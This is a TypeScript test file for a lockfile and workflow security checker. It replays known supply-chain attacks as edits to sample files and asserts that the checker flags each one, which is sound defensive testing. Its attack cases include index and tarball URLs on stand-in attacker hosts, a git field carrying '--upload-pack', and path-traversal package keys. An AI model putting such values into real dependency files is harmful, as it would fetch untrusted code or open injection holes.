import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { test } from 'node:test'
import { check } from '../../src/check/check.ts'
import { npmRegistry } from '../../src/check/lockfiles/registries.ts'
import { rank } from '../../src/core/finding.ts'
import { projectOf, write } from './project.ts'
import { commit, hex, samples, sri } from './samples.ts'

/** An attack as it reached those who were hit: what stood in the repository before, what the change was, and who tells. */
interface Attack {
  readonly name: string
  readonly sample: string
  readonly edit: (text: string) => string
  /** A rule that tells, of medium or higher. */
  readonly rule: string
}

const swap = (from: string | RegExp, to: string) => (text: string) => text.replace(from, to)
const newPackage = (name: string, more: string) => (text: string) =>
  text
    .replace('"gamma": "^3.0.0"', `"gamma": "^3.0.0",\n        "${name}": "^1.0.0"`)
    .replace(
      '"node_modules/gamma": {',
      `"node_modules/${name}": {\n      "version": "1.0.0",\n      "resolved": "${npmRegistry}${name}/-/${name}-1.0.0.tgz",\n      "integrity": "${sri(name)}"${more}\n    },\n    "node_modules/gamma": {`,
    )
const script = ',\n      "hasInstallScript": true'
/** A patch release that brings an install script. */
const scriptInPatch = (text: string): string =>
  text.replaceAll('3.0.1', '3.0.2').replace('"node_modules/gamma": {', '"node_modules/gamma": {\n      "hasInstallScript": true,')
const movedTag = swap(commit('checkout'), 'v4')

/** Attacks from 2024-12 to 2026-06 that leave a mark in what is committed. Others need data of a registry: the age of a version, a lost attestation, a list of malware. */
const attacks: readonly Attack[] = [
  { name: 'tj-actions, reviewdog (2025-03): a tag was moved', sample: 'workflow', edit: movedTag, rule: 'unpinned-action' },
  { name: 'Trivy actions (2026-03): nearly all tags were moved', sample: 'action', edit: swap(commit('cache'), '0.28.0'), rule: 'unpinned-action' },
  {
    name: 'KICS action (2026-03): the locked commit is another',
    sample: 'actions.lock',
    edit: swap(commit('checkout'), commit('evil')),
    rule: 'changed-hash',
  },
  { name: 'repository of an action given to another owner', sample: 'actions.lock', edit: swap('44036562', '1'), rule: 'risky-change' },
  { name: 's1ngularity (2025-08): a patch release with a postinstall', sample: 'npm v3', edit: scriptInPatch, rule: 'risky-change' },
  { name: 'Shai-Hulud (2025-09): a patch release with a postinstall', sample: 'npm v3', edit: scriptInPatch, rule: 'install-script' },
  {
    name: 'Shai-Hulud 2 (2025-11): a preinstall in what was known',
    sample: 'pnpm v6',
    edit: (text) => `${text.trimEnd()}\n    requiresBuild: true\n`,
    rule: 'risky-change',
  },
  { name: 'CanisterWorm (2026-03): a postinstall in many versions', sample: 'npm v3', edit: scriptInPatch, rule: 'risky-change' },
  {
    name: 'LiteLLM, telnyx (2026-03): another wheel under a known version',
    sample: 'requirements',
    edit: (text) => text.replace(hex('a1'), hex('evil 1')).replace(hex('a2'), hex('evil 2')),
    rule: 'changed-hash',
  },
  {
    name: 'axios (2026-03): a new dependency with a postinstall',
    sample: 'npm v3',
    edit: newPackage('plain-crypto-js', script),
    rule: 'risky-change',
  },
  { name: 'Mini Shai-Hulud (2026-04): a preinstall that downloads', sample: 'npm v3', edit: scriptInPatch, rule: 'install-script' },
  {
    name: 'TanStack (2026-05): an optional dependency from a commit',
    sample: 'npm v3',
    edit: (text) =>
      newPackage('setup', '')(text).replace(`${npmRegistry}setup/-/setup-1.0.0.tgz`, `git+ssh://git@github.com/acme/setup.git#${commit('x')}`),
    rule: 'exotic-transitive',
  },
  {
    name: 'dependency confusion: an alias that is another package',
    sample: 'npm v3',
    edit: swap('gamma/-/gamma-3.0.1.tgz', 'camma/-/camma-3.0.1.tgz'),
    rule: 'url-names-another-package',
  },
  {
    name: 'dependency confusion: a second index',
    sample: 'requirements',
    edit: (text) => `--extra-index-url https://pypi.attacker.example/simple\n${text}`,
    rule: 'registry-confusion',
  },
  {
    name: 'lockfile injection: another tarball, its own hash',
    sample: 'npm v3',
    edit: (text) => text.replace(`${npmRegistry}gamma`, 'https://registry.attacker.example/gamma').replace(sri('gamma@3.0.1'), sri('evil')),
    rule: 'changed-hash',
  },
  { name: 'lockfile injection: the hash alone', sample: 'yarn v1', edit: swap(sri('gamma'), sri('evil')), rule: 'changed-hash' },
  { name: 'lockfile injection: the hash is gone', sample: 'npm v3', edit: swap(/,\n\s*"integrity": "[^"]*"/, ''), rule: 'risky-change' },
  {
    name: 'argument injection (CVE-2026-50014)',
    sample: 'pnpm v9',
    edit: swap(`{integrity: ${sri('gamma')}}`, "{type: git, repo: 'https://github.com/acme/gamma.git', commit: --upload-pack=x}"),
    rule: 'mutable-git-reference',
  },
  {
    name: 'workspace escape',
    sample: 'pnpm v9',
    edit: swap(`{integrity: ${sri('gamma')}}`, '{type: directory, directory: ../../gamma}'),
    rule: 'link-leaves-repository',
  },
  { name: 'key traversal', sample: 'npm v3', edit: swap('"node_modules/gamma"', '"node_modules/../../../gamma"'), rule: 'unsafe-path' },
  { name: 'a version with a known hole is locked again', sample: 'npm v3', edit: (text) => text.replaceAll('3.0.1', '3.0.0'), rule: 'risky-change' },
]

const git = (root: string, ...args: string[]): void => {
  execFileSync('git', ['-c', 'user.name=test', '-c', 'user.email=test@test.example', '-c', 'commit.gpgsign=false', ...args], {
    cwd: root,
    stdio: 'ignore',
  })
}

for (const { name, sample: wanted, edit, rule } of attacks)
  test(name, async () => {
    const sample = samples.find((one) => one.name === wanted)
    assert.ok(sample)
    const root = projectOf(sample.files)
    git(root, 'init', '--quiet')
    git(root, 'add', '--all')
    git(root, 'commit', '--quiet', '--message=base')
    const before = await check({ root, targets: ['.'], only: ['lockfile'], base: 'HEAD' })
    assert.deepEqual(
      before.findings.filter(({ severity }) => rank(severity) >= rank('medium')).map(({ message }) => message),
      [],
      'the project is clean before',
    )
    const text = sample.files[sample.path] ?? ''
    assert.notEqual(edit(text), text, 'the attack changes nothing')
    write(root, { [sample.path]: edit(text) })
    const { findings } = await check({ root, targets: ['.'], only: ['lockfile'], base: 'HEAD' })
    const told = findings.filter(({ severity }) => rank(severity) >= rank('medium')).map((finding) => finding.rule)
    assert.ok(told.includes(rule), `found ${told.length === 0 ? 'nothing' : [...new Set(told)].join(', ')}`)
  })
